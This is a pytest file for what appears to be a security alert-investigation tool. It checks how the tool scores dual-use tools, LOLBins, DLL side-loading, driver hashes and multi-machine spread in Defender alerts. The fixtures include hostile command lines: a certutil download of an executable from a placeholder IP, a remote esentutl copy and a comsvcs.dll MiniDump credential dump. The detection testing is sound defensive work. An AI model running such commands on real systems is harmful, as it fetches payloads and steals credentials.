"""Dual-use software against the catalogues (RM, LB, HJ, LD, RO rules): the same tool weighs one way or the
other by who started it, from where, and how many machines at once; every finding cites its catalogue."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

from tests.ai import alerts
from tests.ai.steps import facts as _facts
from tests.ai.steps import hunting as _hunting
from vigil.ai.builtin import BuiltinInvestigator
from vigil.ai.builtin.rules.dual_use import dual_use_signals
from vigil.ai.builtin.scoring import score_evidence
from vigil.ai.schemas import Analysis, Disposition, Evidence
from vigil.core.entities import Entities, extract_entities
from vigil.evidence.signals import AlertFacts, Explains, Signal

HUNTING = "microsoft_defender.run_advanced_hunting_query"
EXPIRES = int(datetime(2027, 3, 1, tzinfo=UTC).timestamp())
ANYDESK = "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe"
WINWORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
CCMEXEC = "C:\\Windows\\CCM\\CcmExec.exe"
#: LOLDrivers samples: a malicious driver (POORTRY variant) and SpeedFan's vulnerable driver (CVE-2007-5633).
MALICIOUS_DRIVER = "090d409f86430e078694e621ad0bd5e458d32aa727f0eb99bda3961577df8d49"
SPEEDFAN = "22be050955347661685a4343c51f11c7811674e030386d2264cd12ecbf544b7c"


def _process(image: str, parent: str, command_line: str = "", **extra: Any) -> dict[str, Any]:
    """A Defender alert's process evidence entry."""
    folder, _, name = image.rpartition("\\")
    parent_folder, _, parent_name = parent.rpartition("\\")
    return {
        "entityType": "Process",
        "fileName": name,
        "filePath": folder,
        "processCommandLine": command_line or f'"{name}"',
        "parentProcessFileName": parent_name,
        "parentProcessFilePath": parent_folder,
        "accountName": "jdoe",
        **extra,
    }


def _defender(title: str, *evidence: dict[str, Any], **extra: Any) -> AlertFacts:
    body = {
        "title": title,
        "severity": "Medium",
        "computerDnsName": "ws-7.acme.example",
        "firstActivity": "2026-09-01T10:00:00Z",
        "evidence": list(evidence),
        **extra,
    }
    return alerts.alert("microsoft_defender", title, body)


def _row(action: str, folder: str, device: str = "ws-7", minute: int = 0, **extra: Any) -> dict[str, Any]:
    """An advanced-hunting row (DeviceProcessEvents, DeviceImageLoadEvents, DeviceFileEvents, DeviceEvents)."""
    return {
        "Timestamp": f"2026-09-01T10:{minute:02d}:00Z",
        "ActionType": action,
        "DeviceName": device,
        "FolderPath": folder,
        "FileName": folder.rsplit("\\", 1)[-1],
        "AccountName": "jdoe",
        **extra,
    }


def _approved(value: str, **extra: Any) -> dict[str, Any]:
    return {
        "id": "f-anydesk",
        "kind": "approved_tool",
        "value": value,
        "scope": None,
        "reason": "help desk remote support",
        "owner": "it@acme.example",
        "created_by": "it@acme.example",
        "expires_at": EXPIRES,
        **extra,
    }


def _signals(alert: AlertFacts, *evidence: Evidence) -> list[Signal]:
    entities = extract_entities(alert.alert_content)
    import json

    return dual_use_signals(alert, json.loads(alert.alert_content), list(evidence), entities)


def _rule(signals: list[Signal], rule: str) -> Signal:
    found = [signal for signal in signals if signal.rule == rule]
    assert found, [(s.rule, s.finding) for s in signals]
    return found[0]


def _analyze(alert: AlertFacts, *evidence: Evidence) -> Analysis:
    return BuiltinInvestigator().analyze(alert, extract_entities(alert.alert_content), list(evidence))


# --- RM: remote-management tools --------------------------------------------------------------------------------


def test_anydesk_brought_by_word_is_a_phishing_chain_and_cites_lolrmm() -> None:
    alert = _defender("Suspicious remote access tool", _process(ANYDESK, WINWORD))
    signal = _rule(_signals(alert), "RM3")
    assert signal.points == 2.0 and signal.explains is None
    assert signal.finding.startswith("[LOLRMM] AnyDesk: anydesk.exe is a remote-management tool")
    assert "an Office application (winword.exe)" in signal.finding
    assert (signal.source, signal.locator) == ("alert", "evidence[0].filePath")
    assert _analyze(alert).disposition is Disposition.TRUE_POSITIVE


def test_a_remote_tool_run_from_downloads_is_a_phishing_chain() -> None:
    alert = _defender(
        "Remote access tool", _process("C:\\Users\\jdoe\\Downloads\\AnyDesk.exe", "C:\\Windows\\explorer.exe")
    )
    signal = _rule(_signals(alert), "RM3")
    assert "run from C:\\Users\\jdoe\\Downloads" in signal.finding


def test_an_approved_anydesk_explains_the_alert_with_the_fact_cited() -> None:
    alert = _defender("Remote access tool", _process(ANYDESK, "C:\\Windows\\explorer.exe"))
    signal = _rule(_signals(alert, _facts(_approved("AnyDesk"))), "RM2")
    assert signal.explains is Explains.AUTHORISED and signal.points == -3.0
    assert "the organization approved — fact by it@acme.example, expires 2027-03-01" in signal.finding
    analysis = _analyze(alert, _facts(_approved("anydesk.exe")))
    assert analysis.disposition is Disposition.BENIGN_TRUE_POSITIVE


def test_an_expired_or_out_of_scope_approval_does_not_cover_the_tool() -> None:
    alert = _defender("Remote access tool", _process(ANYDESK, "C:\\Windows\\explorer.exe"))
    expired = _approved("AnyDesk", expires_at=int(datetime(2026, 8, 1, tzinfo=UTC).timestamp()))
    other_host = _approved("AnyDesk", scope="ws-99.acme.example")
    for fact in (expired, other_host):
        signals = _signals(alert, _facts(fact))
        assert not [s for s in signals if s.rule == "RM2"]
        assert _rule(signals, "RM1").points == 0.0


def test_started_by_the_deployment_agent_explains_but_word_wins_over_an_approval() -> None:
    deployed = _defender("Remote access tool", _process(ANYDESK, CCMEXEC))
    signal = _rule(_signals(deployed), "RM2")
    assert "software-deployment agent ccmexec.exe" in signal.finding and signal.explains is Explains.AUTHORISED
    phished = _defender("Remote access tool", _process(ANYDESK, WINWORD))
    signals = _signals(phished, _facts(_approved("AnyDesk")))
    assert _rule(signals, "RM3").points == 2.0
    assert not [s for s in signals if s.rule == "RM2"]


def test_a_silent_install_by_a_script_strengthens_and_an_approved_one_does_not() -> None:
    install = _process(
        "C:\\Users\\Public\\AnyDesk.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        'AnyDesk.exe --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent',
    )
    alert = _defender("Remote access tool installed", install)
    signal = _rule(_signals(alert), "RM4")
    assert signal.points == 2.0 and "installed silently by a script (powershell.exe)" in signal.finding
    assert _rule(_signals(alert, _facts(_approved("AnyDesk"))), "RM2").explains is Explains.AUTHORISED


def test_a_tool_in_hunting_rows_only_is_context_and_never_explains_another_alert() -> None:
    alert = _defender("Credential dumping", _process("C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\cmd.exe"))
    rows = _hunting(_row("ProcessCreated", ANYDESK, InitiatingProcessFolderPath="C:\\Windows\\explorer.exe"))
    assert _rule(_signals(alert, rows), "RM1").points == 0.0
    approved = _rule(_signals(alert, rows, _facts(_approved("AnyDesk"))), "RM2")
    assert approved.points == 0.0 and approved.explains is None
    assert "not what the alert is about" in approved.finding


def test_a_connection_to_a_tool_domain_names_the_tool() -> None:
    alert = _defender("Unusual connection", _process("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\services.exe"))
    rows = _hunting(
        _row(
            "ConnectionSuccess",
            "C:\\Users\\jdoe\\AppData\\Local\\Temp\\rar$ex01\\ad.exe",
            RemoteUrl="relay-0b1c2d3e.net.anydesk.com",
            RemoteIP="203.0.113.10",
            InitiatingProcessFolderPath="C:\\Users\\jdoe\\AppData\\Local\\Temp\\rar$ex01\\ad.exe",
        )
    )
    signal = _rule(_signals(alert, rows), "RM1")
    assert "[LOLRMM] AnyDesk: reached relay-0b1c2d3e.net.anydesk.com, a domain of" in signal.finding
    assert signal.locator == "results[0].RemoteUrl"


# --- LB: LOLBAS -------------------------------------------------------------------------------------------------


def test_esentutl_copying_from_a_share_resembles_the_catalogued_download_abuse() -> None:
    esentutl = _process(
        "C:\\Windows\\System32\\esentutl.exe",
        "C:\\Windows\\System32\\cmd.exe",
        "esentutl.exe /y \\\\203.0.113.9\\share\\a.exe /d C:\\Users\\Public\\a.exe /o",
    )
    signal = _rule(_signals(_defender("Suspicious copy", esentutl)), "LB1")
    assert signal.points == 1.5 and signal.techniques == ("T1564.004",)  # as the catalogue tags this command
    assert signal.finding.startswith("[LOLBAS] Esentutl.exe: the command line resembles the catalogued 'Download'")
    assert signal.locator == "evidence[0].processCommandLine"


def test_a_lolbin_the_behaviour_rules_already_count_is_cited_once_not_counted_twice() -> None:
    certutil = _process(
        "C:\\Windows\\System32\\certutil.exe",
        "C:\\Windows\\System32\\cmd.exe",
        "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe",
    )
    signal = _rule(_signals(_defender("Suspicious download", certutil)), "LB1")
    assert signal.points == 0.0 and "the behaviour rules (H) already count" in signal.finding
    assert signal.finding.startswith("[LOLBAS] Certutil.exe: the command line resembles the catalogued 'Download'")


def test_an_everyday_command_line_is_context_or_nothing() -> None:
    regsvr = _process("C:\\Windows\\System32\\regsvr32.exe", "C:\\Windows\\System32\\msiexec.exe", "regsvr32 /s x.dll")
    assert _rule(_signals(_defender("Registration", regsvr)), "LB1").points == 0.0
    store = _process("C:\\Windows\\System32\\certutil.exe", "C:\\Windows\\explorer.exe", "certutil -store my")
    assert not [s for s in _signals(_defender("Certificates", store)) if s.rule == "LB1"]


# --- HJ: HijackLibs ---------------------------------------------------------------------------------------------


def _load(dll: str, loader: str) -> dict[str, Any]:
    return _row(
        "ImageLoaded",
        dll,
        InitiatingProcessFolderPath=loader,
        InitiatingProcessFileName=loader.rsplit("\\", maxsplit=1)[-1],
    )


def test_version_dll_loaded_from_downloads_is_a_side_loading_candidate() -> None:
    alert = _defender(
        "Suspicious DLL load", _process("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\services.exe")
    )
    rows = _hunting(_load("C:\\Users\\jdoe\\Downloads\\version.dll", "C:\\Users\\jdoe\\Downloads\\choice.exe"))
    signal = _rule(_signals(alert, rows), "HJ1")
    assert signal.finding.startswith(
        "[HIJACKLIBS] version.dll loaded from C:\\Users\\jdoe\\Downloads, expected in %SYSTEM32%, %SYSWOW64%"
    )
    assert signal.points == 2.5 and "which HijackLibs lists for it" in signal.finding
    assert signal.locator == "results[0].FolderPath"


def test_a_dll_in_its_expected_folder_is_nothing_and_a_vendor_copy_is_context() -> None:
    alert = _defender("DLL load", _process("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\services.exe"))
    system = _hunting(_load("C:\\Windows\\System32\\version.dll", "C:\\Windows\\System32\\choice.exe"))
    assert not [s for s in _signals(alert, system) if s.rule.startswith("HJ")]
    vendor = _hunting(_load("C:\\Program Files\\Contoso\\version.dll", "C:\\Program Files\\Contoso\\app.exe"))
    assert _rule(_signals(alert, vendor), "HJ2").points == 0.0


# --- LD: LOLDrivers ---------------------------------------------------------------------------------------------


def test_a_malicious_driver_hash_in_the_alert_is_strong_evidence() -> None:
    alert = _defender("Suspicious driver", sha256=MALICIOUS_DRIVER)
    signal = _rule(_signals(alert), "LD1")
    assert signal.points == 4.0 and signal.quote == MALICIOUS_DRIVER
    assert signal.finding.startswith("[LOLDRIVERS] driver_090d409f.sys: the hash matches a known malicious driver")


def test_a_vulnerable_driver_load_is_medium_evidence_citing_its_cve() -> None:
    alert = _defender("Driver loaded", _process("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\services.exe"))
    rows = _hunting(_row("DriverLoad", "C:\\Windows\\Temp\\speedfan.sys", SHA256=SPEEDFAN))
    signal = _rule(_signals(alert, rows), "LD2")
    assert signal.points == 2.0 and "known vulnerable driver (CVE-2007-5633)" in signal.finding
    assert signal.locator == "results[0].SHA256"


def test_an_unknown_hash_is_no_driver_finding() -> None:
    assert not [s for s in _signals(_defender("Driver", sha256="ab" * 32)) if s.rule.startswith("LD")]


# --- RO: rollout or spread --------------------------------------------------------------------------------------


def _copies(parent: str, machines: int = 4, minutes: int = 3) -> Evidence:
    rows = [
        _row(
            "ProcessCreated",
            ANYDESK,
            device=f"ws-{index}",
            minute=index * minutes,
            InitiatingProcessFolderPath=parent,
            SHA256="1f" * 32,
        )
        for index in range(machines)
    ]
    return _hunting(*rows, name="Defender: machines with the file hash")


def test_the_same_tool_on_many_machines_from_the_deployment_agent_within_minutes_is_a_rollout() -> None:
    alert = _defender("Remote access tool", _process(ANYDESK, "C:\\Windows\\explorer.exe"))
    signal = _rule(_signals(alert, _copies(CCMEXEC)), "RO1")
    assert signal.explains is Explains.AUTHORISED and signal.points == -3.0
    assert "reached 4 machines (ws-0, ws-1, ws-2, ws-3) within 9 minute(s)" in signal.finding
    assert _analyze(alert, _copies(CCMEXEC)).disposition is Disposition.BENIGN_TRUE_POSITIVE


def test_the_same_tool_across_machines_from_an_unknown_parent_is_spread() -> None:
    alert = _defender("Remote access tool", _process(ANYDESK, "C:\\Windows\\explorer.exe"))
    signal = _rule(_signals(alert, _copies("C:\\Windows\\System32\\rundll32.exe")), "RO2")
    assert signal.points == 1.0 and "started or written by rundll32.exe" in signal.finding
    slow = _rule(_signals(alert, _copies(CCMEXEC, minutes=40)), "RO2")
    assert slow.points == 0.0 and "not a rollout" in slow.finding


def test_a_rollout_explanation_yields_to_credential_dumping() -> None:
    alert = _defender(
        "Remote access tool",
        _process(ANYDESK, "C:\\Windows\\explorer.exe"),
        _process(
            "C:\\Windows\\System32\\rundll32.exe", CCMEXEC, "rundll32.exe comsvcs.dll, MiniDump 624 C:\\t.dmp full"
        ),
    )
    evidence = [_copies(CCMEXEC)]
    signals = score_evidence(alert, extract_entities(alert.alert_content), evidence)
    rollout = _rule(signals, "RO1")
    assert rollout.explains is None and rollout.points == 0.0 and "the evidence contradicts it" in rollout.finding


def test_nothing_dual_use_gives_no_findings() -> None:
    notepad = _process("C:\\Windows\\System32\\notepad.exe", "C:\\Windows\\explorer.exe", "notepad.exe a.txt")
    assert _signals(_defender("Process", notepad)) == []
    assert dual_use_signals(alerts.alert("okta", "user.session.start", "{}"), {}, [], Entities()) == []
